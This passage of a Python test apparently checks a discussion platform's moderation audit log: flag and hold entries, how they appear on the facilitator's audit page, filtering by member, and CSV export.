    moderation_settings.update_settings(room.facilitator.user, room.id, {"moderation": "post"})
    shown, _ = messages.send_message(leyla.user, room.id, uuid.uuid4().hex, "An ordinary remark")
    flags.flag(third.user, shown.id, "personal_attack")
    hold = db.session.scalar(select(AuditEntry).where(AuditEntry.session_id == room.id,
                                                      AuditEntry.action == "hold"))
    assert hold.actor_id is None and hold.target_id == str(held.id)
    host = app.test_client()
    sign_in(host, room.facilitator.user.email)
    page = unescape(host.get(f"/sessions/{room.id}/audit").get_data(as_text=True))
    assert "The platform" in page and "Personal attack" in page
    assert "personal_attack" not in page.split('id="entries-heading"')[1]
    for person in room.participants:
        assert f"#{person.user.id}<" not in page and f"#{person.user.id} " not in page
    assert f'<option value="{third.member_id}">{third.name} (' in page
    filtered = unescape(host.get(f"/sessions/{room.id}/audit?member={third.member_id}").get_data(as_text=True))
    rows = filtered.split('id="entries-heading"')[1]
    assert "Personal attack" in rows and "The platform" not in rows
    assert f'<option value="{third.member_id}" selected>' in filtered
    csv_link = f"format=csv&amp;member={third.member_id}"
    assert csv_link in host.get(f"/sessions/{room.id}/audit?member={third.member_id}").get_data(as_text=True)
    exported = host.get(f"/sessions/{room.id}/audit?format=csv&member={third.member_id}").get_data(as_text=True)
    assert [r["action"] for r in csv.DictReader(io.StringIO(exported))] == ["flag"]
    # An unknown member id is no filter at all, not an error.
    assert host.get(f"/sessions/{room.id}/audit?member=nobody").status_code == 200
